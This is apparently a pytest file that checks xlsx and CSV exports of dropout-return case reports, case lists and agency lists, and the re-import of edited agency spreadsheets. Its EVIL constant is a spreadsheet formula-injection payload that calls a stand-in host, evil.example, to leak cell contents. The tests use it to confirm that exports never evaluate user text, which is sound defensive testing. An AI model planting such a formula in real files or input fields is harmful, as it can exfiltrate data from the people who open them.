"""Exports are xlsx by default (CSV with ?format=csv), read back here by openpyxl: the report's rows are the
page's rows, with Chinese headers, a frozen header row, widths, dates as dates and user text that never runs
as a formula; the agency list exported as xlsx and imported again changes nothing, and an edited xlsx renames.
Real PostgreSQL, Temporal and the web app."""

from __future__ import annotations

import html
import io
import re
from datetime import datetime

from openpyxl import Workbook, load_workbook
from sqlalchemy import select, text

from api.spreadsheet import Column, ColumnKind, Table, table_xlsx
from db.models import Agency
from tests.conftest import Live, make_token
from tests.ui.test_admin_agency_pages import upload
from tests.ui.test_dropout_pages import start_by_service, today
from tests.ui.test_pages import browser

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'


def sheet_rows(content: bytes) -> tuple[list[list[object]], object]:
    ws = load_workbook(io.BytesIO(content)).active
    assert ws is not None
    return [list(r) for r in ws.iter_rows(values_only=True)], ws


def test_a_table_keeps_its_kinds_and_never_writes_a_formula() -> None:
    table = Table(
        (Column("姓名", 10), Column("立案时间", 17, ColumnKind.datetime), Column("级别", 6, ColumnKind.int)),
        [[EVIL, datetime(2026, 12, 2, 9, 30), 2], ["李小军", None, None]],
    )
    rows, ws = sheet_rows(table_xlsx(table))
    assert rows == [["姓名", "立案时间", "级别"], [EVIL, datetime(2026, 12, 2, 9, 30), 2], ["李小军", None, None]]
    assert ws.freeze_panes == "A2" and ws.column_dimensions["B"].width == 17  # type: ignore[attr-defined]
    cell = ws["A2"]  # type: ignore[index]
    assert cell.data_type == "s" and cell.quotePrefix  # text, shown as typed, never evaluated
    assert ws["B2"].number_format == "yyyy-mm-dd hh:mm"  # type: ignore[index]


async def test_the_report_export_has_the_pages_rows(live: Live) -> None:
    first = await start_by_service(live, "luzhou-school1", "王小明")
    second = await start_by_service(live, "luzhou-school1", "张浩")
    async with live.db.engine.begin() as conn:
        await conn.execute(text("UPDATE children SET name = :n WHERE name = '张浩'"), {"n": EVIL})
    month = f"{today():%Y-%m}"
    async with browser(live, "luzhou-edu-sup") as sup:
        page = await sup.get(f"/reports/dropout_return?month={month}")
        export = await sup.get(f"/reports/dropout_return/export?month={month}")
        as_csv = await sup.get(f"/reports/dropout_return/export?month={month}&format=csv")
        wrong = await sup.get(f"/reports/dropout_return/export?month={month}&format=pdf")
    assert 'href="/reports/dropout_return/export?month=' in page.text
    table = re.search(r'<table class="table report-cases">.*?</table>', page.text, re.S)
    assert table
    on_page = re.findall(r'<a href="/cases/([^"]+)">[^<]+</a></td>\s*<td>([^<]+)', table.group(0))
    assert sorted(no for no, _ in on_page) == sorted([first, second])

    assert export.status_code == 200 and export.headers["content-type"] == XLSX
    assert ".xlsx" in export.headers["content-disposition"]
    rows, ws = sheet_rows(export.content)
    assert rows[0][:4] == ["案件编号", "学生", "学校", "当前环节"]
    assert [(r[0], r[1]) for r in rows[1:]] == [(no, html.unescape(name)) for no, name in on_page]
    assert ws.freeze_panes == "A2"  # type: ignore[attr-defined]
    opened = rows[1][8]
    assert isinstance(opened, datetime) and opened.date() == today()  # a date, in the clerk's time zone
    evil = next(r for r in rows[1:] if r[0] == second)
    assert evil[1] == EVIL
    assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv")
    assert wrong.status_code == 422 and "导出格式只能是 xlsx 或 csv" in wrong.text


async def test_the_case_list_export_has_the_pages_rows(live: Live) -> None:
    for child in ("王小明", "张浩", "李娜"):
        await start_by_service(live, "luzhou-school1", child)
    async with browser(live, "luzhou-edu-sup") as sup:
        page = await sup.get("/cases", params={"process": "dropout_return"})
        export = await sup.get("/cases/export", params={"process": "dropout_return"})
        narrowed = await sup.get("/cases/export", params={"process": "dropout_return", "q": "张浩"})
    assert 'href="/cases/export?process=dropout_return"' in page.text
    listed = re.findall(r'<td><a href="/cases/([^"]+)">[^<]+</a></td>\s*<td>([^<]+)', page.text)
    assert len(listed) == 3
    rows, ws = sheet_rows(export.content)
    assert export.headers["content-type"] == XLSX and ws.freeze_panes == "A2"  # type: ignore[attr-defined]
    header = "案件编号 儿童 流程 县（区） 当前环节 承办单位 办理期限 升级级别 状态 立案时间 结案时间"
    assert rows[0] == header.split()
    assert [(r[0], r[1]) for r in rows[1:]] == [(no, html.unescape(name)) for no, name in listed]
    first = rows[1]
    assert first[2:6] == ["劝返复学", "潞州区", "学校联系家访", "潞州区实验小学"] and first[8] == "办理中"
    assert isinstance(first[6], datetime) and isinstance(first[9], datetime) and first[7] == 0
    assert [r[1] for r in sheet_rows(narrowed.content)[0][1:]] == ["张浩"]


async def test_the_agency_list_as_xlsx_imports_back(live: Live) -> None:
    async with browser(live, "admin") as admin:
        page = (await admin.get("/admin/agencies")).text
        assert 'href="/admin/agencies/export"' in page and 'accept=".xlsx,.csv"' in page
        export = await admin.get("/admin/agencies/export", params={"region_code": "140403", "agency_type": "school"})
        assert export.status_code == 200 and export.headers["content-type"] == XLSX
        rows, _ = sheet_rows(export.content)
        assert rows[0] == ["code", "name", "type", "region", "township"]
        async with live.db.sf() as s:
            schools = (
                await s.execute(
                    select(Agency.code).where(Agency.region_code == "140403", Agency.agency_type == "school")
                )
            ).scalars()
            assert sorted(r[0] for r in rows[1:]) == sorted(schools)

        same = await upload(admin, page, export.content)
        assert same.status_code == 303
        assert f"未变{len(rows) - 1}个" in (await admin.get("/admin/agencies")).text

        # Edited in Excel: one school renamed, one added.
        wb = Workbook()
        ws = wb.active
        assert ws is not None
        ws.append(rows[0])
        renamed = [rows[1][0], "潞州区实验小学（新校区）", *rows[1][2:]]
        ws.append(renamed)
        ws.append(["luzhou-school9", "潞州区第九小学", "学校", "潞州区", rows[1][4]])
        out = io.BytesIO()
        wb.save(out)
        done = await upload(admin, page, out.getvalue())
        assert done.status_code == 303
        assert "新增1个，更新1个，未变0个" in (await admin.get("/admin/agencies")).text
        broken = await upload(admin, page, b"PK\x03\x04not really a workbook")
        assert broken.status_code == 422 and "不是有效的Excel（xlsx）文件" in broken.text

    # A script sends the same file to the API as the raw body.
    token = await make_token(live.db, "admin")
    checked = await live.http.post(
        "/api/v1/admin/agencies/import",
        params={"dry_run": "true"},
        content=export.content,
        headers={"Authorization": f"Bearer {token}", "Content-Type": XLSX},
    )
    assert checked.status_code == 200, checked.text
    assert checked.json()["unchanged"] == len(rows) - 2 and checked.json()["updated"] == 1
    async with live.db.sf() as s:
        found = await s.execute(select(Agency.code, Agency.name).where(Agency.code.in_([rows[1][0], "luzhou-school9"])))
        names = {code: name for code, name in found}
    assert names == {rows[1][0]: "潞州区实验小学（新校区）", "luzhou-school9": "潞州区第九小学"}
